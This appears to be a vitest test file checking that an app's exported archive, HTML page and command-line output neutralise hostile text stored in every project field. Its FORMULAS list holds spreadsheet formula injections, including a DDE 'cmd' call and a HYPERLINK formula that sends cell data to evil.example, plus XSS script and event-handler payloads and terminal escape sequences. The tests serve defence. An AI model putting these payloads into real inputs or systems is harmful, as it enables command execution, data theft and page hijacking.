import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { archiveRecord } from '../../src/archive/archive-record.js';
import { PreviewService } from '../../src/public-page/preview.service.js';
import { verifyRecord } from '../../src/record/verify-record.js';
import { archiveFolder, type Entry, entriesOf, textOf } from '../support/archives.js';
import {
  goodInputs,
  type Input,
  mutate,
  type Prepared,
  prepareProject,
  record,
  TOLD,
} from '../support/mutations.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

// What goes out of the house as a file: the archive with its page, the picture and head of a link, and what the
// command line prints. There is no table for a spreadsheet among them; what a cell could do is tested should one come.

/** What a spreadsheet takes for a formula, with what a browser takes for a script and a terminal for a command. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '＝1+1',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '</script><svg onload=alert(1)>',
  '--><img src=x onerror=alert(1)>',
  ']]><x/>',
  '\u001b]0;evil\u0007\u001b[2J\u009b31m',
] as const;

let app: TestApp;
let prepared: Prepared;
let entries: readonly Entry[];

beforeAll(async () => {
  vi.spyOn(process.stdout, 'write').mockReturnValue(true);
  app = await startTestApp({ env: { POINTS_PER_MINUTE: '100000000' } });
  prepared = await prepareProject(app, 'hub');
  for (const [at, formula] of FORMULAS.entries()) await recordEverywhere(formula, `odd-${at}`);
  await record(app, 'projectPublish', { project: 'hub', published: true });
  const path = join(await archiveFolder(), 'all.zip');
  await archiveRecord(app.nest, path, {});
  entries = await entriesOf(path);
});
afterAll(() => app?.close());

/** As every kind of text of a project: names, titles, notes, quotes, words, publishers, references, reasons. */
async function recordEverywhere(text: string, key: string): Promise<void> {
  const both = { en: text, it: text };
  const told = { ...TOLD, source: { publisher: text, title: text, reference: text } };
  const inputs = goodInputs(prepared, key);
  const more: Record<string, Input> = {
    organisationAdd: { name: text },
    projectRevise: { name: both, description: both, place: both },
    phaseAdd: { title: both },
    eventAdd: { title: both, text: both, effect: both, ...told },
    milestoneStateDate: { note: both, quote: text, date: { date: '2017-01-15', words: both }, ...told },
    evidenceAdd: { caption: both, ...told },
    statusDeclare: { sentence: both, ...told },
    commitmentAdd: { purpose: both, condition: both, ...told },
  };
  for (const [mutation, input] of Object.entries(more)) {
    const { userErrors } = await mutate(app, mutation, { ...inputs[mutation], ...input, reason: text });
    // What shows nothing once it is cleaned is no name.
    expect(userErrors.filter(({ code }) => code !== 'REQUIRED')).toEqual([]);
  }
}

describe('the archive', () => {
  test('holds pages, records and files, and no table that a spreadsheet would open', () => {
    for (const { name } of entries) {
      expect(name).toMatch(
        /^(index\.html|manifest\.json|(register|access)\.jsonl|projects\/[a-z0-9-]+\.jsonl|files\/[0-9a-f]{64}\.(jpg|png|webp|pdf))$/,
      );
    }
  });

  test('holds each text as it was said, inside a text of JSON', () => {
    const lines = textOf(entries, 'projects/hub.jsonl').trimEnd().split('\n');
    const texts = lines.flatMap((line) => {
      expect(line).toMatch(/^\{.*\}$/);
      return textsIn(JSON.parse(line));
    });
    for (const formula of FORMULAS.slice(0, 4)) expect(texts).toContain(formula);
    for (const text of texts) expect(text).not.toMatch(CONTROLS);
  });

  test('shows in its page no element and no attribute that a text brought along', () => {
    const page = textOf(entries, 'index.html');
    expect(page).toContain('&#60;script&#62;alert(1)');
    const scripts = page.match(/<script\b/gi) ?? [];
    const own = page.match(/<script>(?!alert)/gi) ?? [];
    expect(scripts).toHaveLength(own.length);
    for (const tag of page.match(/<[a-z][^>]*>/gi) ?? []) {
      expect(tag).not.toMatch(/\son\w+\s*=/i);
      const [, address = ''] = /\s(?:href|src)="([^"]*)"/i.exec(tag) ?? [];
      expect(address).toMatch(
        /^(|#.*|https?:\/\/.*|files\/[0-9a-f]{64}\.\w+|projects\/[a-z0-9-]+\.jsonl|data:,|data:image\/(png|webp|jpeg);base64,[\w+/=]*)$/i,
      );
    }
    expect(page).not.toMatch(/<(svg|img)[^>]*(onload|onerror)/i);
  });
});

test('the picture of a link is drawn of outlines alone, whatever the name says', async () => {
  const picture = await app.nest.get(PreviewService, { strict: false }).picture('hub', 'EN');
  expect(picture?.subarray(1, 4).toString()).toBe('PNG');
});

test('the command line prints no text that a terminal would obey', async () => {
  const said: string[] = [];
  vi.mocked(process.stdout.write).mockImplementation((text) => said.push(String(text)) > 0);
  await verifyRecord(app.nest, {});
  expect(said.join('')).toContain('hub');
  expect(said.join('')).not.toMatch(CONTROLS);
});

/** Characters that only a terminal reads; a line's end is none of them. */
const CONTROLS = /(?![\n\r\t])\p{Cc}/u;

function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : [];
}
